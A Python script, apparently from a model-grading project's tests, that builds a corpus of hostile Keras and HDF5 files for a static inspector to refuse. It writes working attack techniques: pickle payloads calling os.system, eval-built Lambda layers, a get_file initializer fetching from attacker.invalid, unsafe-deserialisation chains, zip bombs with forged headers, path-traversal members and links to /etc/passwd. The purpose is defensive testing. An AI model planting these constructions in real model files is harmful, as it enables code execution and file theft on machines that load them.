"""Regenerate tests/hostile/: model files the grader must refuse, and README.md listing them.

    python tests/hostile/make_corpus.py

Every file here is refused by ``grader.static.model_file.inspect_model_file`` with one
line naming the file and the reason; ``tests/test_inspection.py`` holds the
exception class and message each must get. Files whose code could run at load
or call time write a marker ``/tmp/rnn-grader-pwned-<name>`` if it ever runs;
the tests assert no marker appears. Building the Lambda models here runs their
functions once (Keras traces them), so this script removes the markers it
caused before it exits.

Keep every file small (the zip bomb is the largest, about 1 MiB on disk).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import stat
import struct
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import Callable

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("CUDA_VISIBLE_DEVICES", "")

HERE = Path(__file__).resolve().parent
MARKER = "/tmp/rnn-grader-pwned-{}"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")

# file -> why it is hostile (README.md is written from this table)
WHY: dict[str, str] = {
    "lambda_top.keras": "a Sequential with a top-level Lambda whose function writes the marker when the model is "
                        "loaded with safe_mode=False or called",
    "lambda_nested.keras": "the same Lambda hidden in TimeDistributed inside a Sequential nested in a Functional model",
    "legacy_lambda.h5": "a Keras 3 legacy HDF5 full-model file (model.save('x.h5')) holding a marker-writing Lambda",
    "foreign_module.keras": "a valid file whose config.json was edited so a layer names module 'os', class 'system'",
    "builtins_eval.keras": "an activation saved as a Keras function object naming builtins.eval",
    "keras_utils_get_file.keras": "CVE-2025-8747 style: an initializer object naming keras.utils.get_file, which "
                                  "downloads and extracts a file when deserialised",
    "enable_unsafe.keras": "CVE-2025-9906 style: a layer-list entry naming keras.config.enable_unsafe_deserialization, "
                           "followed by a marker-writing Lambda it would unlock",
    "custom_registered.keras": "a real registered custom layer ('MyPkg>MyLayer') whose code is not in the grader",
    "tfsm_layer.keras": "a TFSMLayer, which loads a TensorFlow SavedModel from a path on the grading machine",
    "string_lookup_file.keras": "a StringLookup whose vocabulary is read from /etc/passwd",
    "bad_activation.keras": "an LSTM whose activation string is 'os.system'",
    "op_while_loop.keras": "a keras.ops WhileLoop operation node, an operation that carries Python callables",
    "zip_bomb.keras": "config.json inflates to 1.1 GiB from about 1 MiB (deflate of repeated bytes)",
    "zip_bomb_lying_size.keras": "a 64 MiB config.json whose zip headers claim 4 KiB (with a matching CRC for the "
                                 "first 4 KiB): the ratio check cannot see it, the bounded read must stop it",
    "dotdot_member.keras": "a member named '../evil' that would escape an extraction directory",
    "absolute_member.keras": "a member named '/etc/evil'",
    "symlink_member.keras": "a member whose external_attr marks it as a symbolic link to /etc/passwd",
    "extra_member.keras": "an unexpected payload.py member next to the Keras members",
    "duplicate_member.keras": "config.json twice, the second copy holding a Lambda (which copy wins depends on "
                              "the reader)",
    "encrypted_member.keras": "config.json flagged as encrypted",
    "many_members.keras": "70 asset members, more than a .keras file ever holds",
    "huge_dataset.keras": "model.weights.h5 declares a (100000, 100000) float32 dataset (37 GiB) with no data written",
    "external_link.keras": "model.weights.h5 holds an HDF5 external link to /etc/passwd",
    "external_storage.keras": "model.weights.h5 holds a dataset whose storage is the external file /etc/passwd",
    "unknown_filter.keras": "model.weights.h5 holds a dataset compressed with an unregistered HDF5 filter (reading "
                            "it searches the plugin path for a shared library)",
    "h5_cycle.keras": "model.weights.h5 holds a group hard-linked to its own parent, an endless walk",
    "npz_pickle.keras": "weights in model.weights.npz whose array is a pickle that writes the marker when unpickled",
    "virtual_dataset.h5": "a legacy full-model HDF5 file with a virtual dataset reading another file",
    "h5_external_link.h5": "a legacy full-model HDF5 file with an external link to /etc/passwd",
    "h5_with_ops.h5": "a Keras 3 legacy HDF5 file of a functional model using keras.ops (Masking adds NotEqual): "
                      "Keras cannot reload it",
    "truncated.keras": "the first half of a valid .keras file",
    "empty.keras": "0 bytes",
    "renamed_png.keras": "a PNG image renamed .keras",
    "pickle.keras": "a Python pickle that writes the marker when unpickled, renamed .keras",
    "h5_renamed.keras": "a legacy HDF5 model renamed .keras",
    "not_json.keras": "config.json is not JSON",
    "weights_garbage.keras": "model.weights.h5 is not an HDF5 file",
    "weights_only.h5": "weights only (model.save_weights), no model config",
    "deep_nesting.keras": "config.json nested 100000 levels deep (json's recursion limit)",
    "deep_nesting_500.keras": "config.json nested 500 levels deep: parses, but past the inspector's depth bound",
}


def marker_lambda(name: str) -> Callable:
    """A lambda whose body writes MARKER for ``name``; Keras saves its bytecode."""
    return eval(f'lambda x: (__import__("builtins").open("{MARKER.format(name)}", "w").close(), x)[1]')


def clear_markers() -> None:
    for name in WHY:
        Path(MARKER.format(Path(name).stem)).unlink(missing_ok=True)


class Payload:
    """Pickles as a call to os.system that writes the marker for ``name`` when unpickled."""

    def __init__(self, name: str):
        self.name = name

    def __reduce__(self):
        return os.system, (f"touch {MARKER.format(self.name)}",)


# --------------------------------------------------------------------------- building blocks

def base_model():
    import keras

    model = keras.Sequential([keras.Input((None, 3)), keras.layers.LSTM(4), keras.layers.Dense(2)], name="base")
    model.compile(optimizer="adam", loss="mse")
    return model


def members_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_zip(target: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> None:
    target.unlink(missing_ok=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)


def with_config(base: dict[str, bytes], edit: Callable[[dict], None]) -> list[tuple[str, bytes]]:
    config = json.loads(base["config.json"])
    edit(config)
    out = dict(base)
    out["config.json"] = json.dumps(config).encode()
    return list(out.items())


def with_weights(base: dict[str, bytes], build: Callable[["object"], None]) -> list[tuple[str, bytes]]:
    """Replace model.weights.h5 with a file ``build(h5file)`` fills."""
    import h5py

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "w.h5"
        with h5py.File(path, "w") as handle:
            build(handle)
        data = path.read_bytes()
    out = dict(base)
    out["model.weights.h5"] = data
    return list(out.items())


def layer_list(config: dict) -> list:
    return config["config"]["layers"]


def find_layer(config: dict, class_name: str) -> dict:
    return next(spec for spec in layer_list(config) if spec["class_name"] == class_name)


# --------------------------------------------------------------------------- the corpus

def make(out: Path) -> None:
    import h5py
    import keras
    import numpy as np

    L = keras.layers
    keras.utils.set_random_seed(0)
    work = Path(tempfile.mkdtemp(prefix="hostile-"))
    base_path = work / "base.keras"
    base_model().save(base_path)
    base = members_of(base_path)
    base_h5 = work / "base.h5"
    base_model().save(base_h5)

    # ---- code in the config
    model = keras.Sequential([keras.Input((None, 3)), L.Lambda(marker_lambda("lambda_top")), L.LSTM(4), L.Dense(2)])
    model.save(out / "lambda_top.keras")

    inner = keras.Sequential([L.TimeDistributed(L.Lambda(marker_lambda("lambda_nested"))), L.LSTM(4)], name="inner")
    x = keras.Input((None, 3))
    keras.Model(x, L.Dense(2)(inner(x)), name="outer").save(out / "lambda_nested.keras")

    model = keras.Sequential([keras.Input((None, 3)), L.Lambda(marker_lambda("legacy_lambda")), L.LSTM(4), L.Dense(2)])
    model.save(out / "legacy_lambda.h5")

    def foreign(config):
        dense = find_layer(config, "Dense")
        dense.update(module="os", class_name="system", registered_name="system")
        dense["config"]["command"] = f"touch {MARKER.format('foreign_module')}"
    write_zip(out / "foreign_module.keras", with_config(base, foreign))

    def builtins_eval(config):
        find_layer(config, "Dense")["config"]["activation"] = {
            "module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}
    write_zip(out / "builtins_eval.keras", with_config(base, builtins_eval))

    def get_file(config):
        find_layer(config, "Dense")["config"]["kernel_initializer"] = {
            "module": "keras.utils", "class_name": "get_file", "registered_name": "get_file",
            "config": {"fname": "payload.tar.gz", "origin": "http://attacker.invalid/payload.tar.gz",
                       "cache_dir": "/tmp", "extract": True}}
    write_zip(out / "keras_utils_get_file.keras", with_config(base, get_file))

    lambda_layer = json.loads(members_of(out / "lambda_top.keras")["config.json"])["config"]["layers"][1]

    def enable_unsafe(config):
        layers = layer_list(config)
        layers.insert(1, {"module": "keras.config", "class_name": "function", "registered_name": "function",
                          "config": "enable_unsafe_deserialization"})
        layers.insert(2, lambda_layer)
    write_zip(out / "enable_unsafe.keras", with_config(base, enable_unsafe))

    @keras.saving.register_keras_serializable(package="MyPkg")
    class MyLayer(L.Layer):
        def call(self, inputs):
            return inputs

    keras.Sequential([keras.Input((None, 3)), MyLayer(), L.LSTM(4), L.Dense(2)]).save(out / "custom_registered.keras")

    def tfsm(config):
        layer_list(config).insert(1, {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                                      "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel",
                                                 "call_endpoint": "serve", "trainable": False}})
    write_zip(out / "tfsm_layer.keras", with_config(base, tfsm))

    def lookup(config):
        layer_list(config).insert(1, {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                                      "config": {"name": "lookup", "vocabulary": "/etc/passwd",
                                                 "output_mode": "int", "num_oov_indices": 1}})
    write_zip(out / "string_lookup_file.keras", with_config(base, lookup))

    def activation(config):
        find_layer(config, "LSTM")["config"]["activation"] = "os.system"
    write_zip(out / "bad_activation.keras", with_config(base, activation))

    def while_loop(config):
        layer_list(config).insert(1, {"module": "keras.src.ops.core", "class_name": "WhileLoop",
                                      "registered_name": "WhileLoop", "config": {"name": "loop"}})
    write_zip(out / "op_while_loop.keras", with_config(base, while_loop))

    # ---- the zip container
    target = out / "zip_bomb.keras"
    target.unlink(missing_ok=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("metadata.json", base["metadata.json"])
        chunk = b" " * (1 << 20)
        with archive.open("config.json", "w", force_zip64=True) as handle:
            for _ in range(1100):          # 1.1 GiB, streamed: never in memory at once
                handle.write(chunk)
        archive.writestr("model.weights.h5", base["model.weights.h5"])

    write_lying_zip(out / "zip_bomb_lying_size.keras", base, claimed=4096, real=64 << 20)

    write_zip(out / "dotdot_member.keras", list(base.items()) + [("../evil", b"evil")])
    write_zip(out / "absolute_member.keras", list(base.items()) + [(zipfile.ZipInfo("/etc/evil"), b"evil")])
    link = zipfile.ZipInfo("assets/passwd")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    write_zip(out / "symlink_member.keras", list(base.items()) + [(link, b"/etc/passwd")])
    write_zip(out / "extra_member.keras",
              list(base.items()) + [("payload.py", f"open('{MARKER.format('extra_member')}', 'w')\n".encode())])
    lambda_config = members_of(out / "lambda_top.keras")["config.json"]
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")     # zipfile warns about the duplicate name: that is the point
        write_zip(out / "duplicate_member.keras", list(base.items()) + [("config.json", lambda_config)])
    write_zip(out / "encrypted_member.keras", list(base.items()))
    set_encrypted_flag(out / "encrypted_member.keras", "config.json")
    write_zip(out / "many_members.keras",
              list(base.items()) + [(f"assets/file_{i}.txt", b"x") for i in range(70)])

    # ---- the weights (HDF5 inside the zip, and legacy HDF5 files)
    def huge(handle):
        handle.create_dataset("layers/dense/vars/0", shape=(100000, 100000), dtype="float32", chunks=(100, 100))
    write_zip(out / "huge_dataset.keras", with_weights(base, huge))

    def external_link(handle):
        handle.create_group("layers")
        handle["layers/dense"] = h5py.ExternalLink("/etc/passwd", "/")
    write_zip(out / "external_link.keras", with_weights(base, external_link))

    def external_storage(handle):
        handle.create_dataset("layers/dense/vars/0", shape=(16,), dtype="float32",
                              external=[("/etc/passwd", 0, 64)])
    write_zip(out / "external_storage.keras", with_weights(base, external_storage))

    def unknown_filter(handle):
        handle.create_dataset("layers/dense/vars/0", shape=(64, 64), dtype="float32", chunks=(8, 8),
                              compression=32099, allow_unknown_filter=True)
    write_zip(out / "unknown_filter.keras", with_weights(base, unknown_filter))

    def cycle(handle):
        group = handle.create_group("layers/dense")
        group["loop"] = handle["layers"]
    write_zip(out / "h5_cycle.keras", with_weights(base, cycle))

    buffer = io.BytesIO()
    np.savez(buffer, __root__=np.array([Payload("npz_pickle")], dtype=object), **{"layers/dense": np.zeros((3, 2), "float32")})
    write_zip(out / "npz_pickle.keras", [("metadata.json", base["metadata.json"]),
                                         ("config.json", base["config.json"]),
                                         ("model.weights.npz", buffer.getvalue())])

    shutil.copyfile(base_h5, out / "virtual_dataset.h5")
    with h5py.File(out / "virtual_dataset.h5", "a") as handle:
        layout = h5py.VirtualLayout(shape=(16,), dtype="float32")
        layout[:] = h5py.VirtualSource("/tmp/rnn-grader-elsewhere.h5", "data", shape=(16,))
        handle["model_weights"].create_virtual_dataset("virtual", layout, fillvalue=0)

    shutil.copyfile(base_h5, out / "h5_external_link.h5")
    with h5py.File(out / "h5_external_link.h5", "a") as handle:
        handle["model_weights/elsewhere"] = h5py.ExternalLink("/etc/passwd", "/")

    x = keras.Input((None, 3))
    h = L.LSTM(4)(L.Masking()(x))
    model = keras.Model(x, L.Dense(2)(h))
    model.save(out / "h5_with_ops.h5")

    # ---- broken files
    raw = base_path.read_bytes()
    (out / "truncated.keras").write_bytes(raw[: len(raw) // 2])
    (out / "empty.keras").write_bytes(b"")
    (out / "renamed_png.keras").write_bytes(PNG)
    (out / "pickle.keras").write_bytes(pickle.dumps(Payload("pickle")))
    shutil.copyfile(base_h5, out / "h5_renamed.keras")
    write_zip(out / "not_json.keras", list({**base, "config.json": b"\x00\xffnot json {"}.items()))
    write_zip(out / "weights_garbage.keras", list({**base, "model.weights.h5": b"not an hdf5 file" * 64}.items()))
    weights = work / "w.weights.h5"
    base_model().save_weights(weights)
    shutil.copyfile(weights, out / "weights_only.h5")
    depth = 100000
    write_zip(out / "deep_nesting.keras", list({**base, "config.json": b"[" * depth + b"]" * depth}.items()))
    nested: dict = {"class_name": "Dense", "config": {}}
    for _ in range(500):
        nested = {"class_name": "Sequential", "config": {"layers": [nested]}}
    write_zip(out / "deep_nesting_500.keras", list({**base, "config.json": json.dumps(nested).encode()}.items()))

    shutil.rmtree(work)


def write_lying_zip(target: Path, base: dict[str, bytes], claimed: int, real: int) -> None:
    """A zip whose config.json holds ``real`` bytes but whose headers claim ``claimed`` (CRC of the claimed prefix)."""
    data = b" " * real
    write_zip(target, [("metadata.json", base["metadata.json"]), ("config.json", data),
                       ("model.weights.h5", base["model.weights.h5"])])
    crc = zlib.crc32(data[:claimed])
    blob = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo("config.json")
    # Local file header: CRC at +14, uncompressed size at +22.
    struct.pack_into("<I", blob, info.header_offset + 14, crc)
    struct.pack_into("<I", blob, info.header_offset + 22, claimed)
    # Central directory entry: CRC at +16, uncompressed size at +24.
    central = blob.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", blob, central + 28)[0]
        if bytes(blob[central + 46:central + 46 + name_length]) == b"config.json":
            struct.pack_into("<I", blob, central + 16, crc)
            struct.pack_into("<I", blob, central + 24, claimed)
            break
        central = blob.find(b"PK\x01\x02", central + 4)
    target.write_bytes(bytes(blob))


def set_encrypted_flag(target: Path, member: str) -> None:
    blob = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo(member)
    struct.pack_into("<H", blob, info.header_offset + 6, info.flag_bits | 0x1)
    central = blob.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", blob, central + 28)[0]
        if bytes(blob[central + 46:central + 46 + name_length]) == member.encode():
            struct.pack_into("<H", blob, central + 8, info.flag_bits | 0x1)
        central = blob.find(b"PK\x01\x02", central + 4)
    target.write_bytes(bytes(blob))


def write_readme(out: Path) -> None:
    lines = ["# Hostile and broken model files", "",
             "Generated by `python tests/hostile/make_corpus.py`; every file must be refused by",
             "`grader.static.model_file.inspect_model_file` with one line naming the file and the reason, without",
             "TensorFlow and without running anything (`tests/test_inspection.py` holds the expected",
             "exception and message of each). Files that could run code write `/tmp/rnn-grader-pwned-<name>`",
             "if they ever do; the tests assert no such marker appears.", "",
             "| file | size | why it is hostile or broken |", "| --- | ---: | --- |"]
    for name, why in WHY.items():
        size = (out / name).stat().st_size
        lines.append(f"| `{name}` | {size:,} | {why} |")
    (out / "README.md").write_text("\n".join(lines) + "\n")


def main() -> int:
    make(HERE)
    clear_markers()
    made = {p.name for p in HERE.iterdir() if p.suffix in (".keras", ".h5")}
    missing, extra = set(WHY) - made, made - set(WHY)
    if missing or extra:
        print(f"corpus and table disagree: missing {sorted(missing)}, unlisted {sorted(extra)}", file=sys.stderr)
        return 1
    write_readme(HERE)
    total = sum((HERE / name).stat().st_size for name in WHY)
    print(f"{len(WHY)} files, {total / 1024:.0f} KiB")
    return 0


if __name__ == "__main__":
    sys.exit(main())
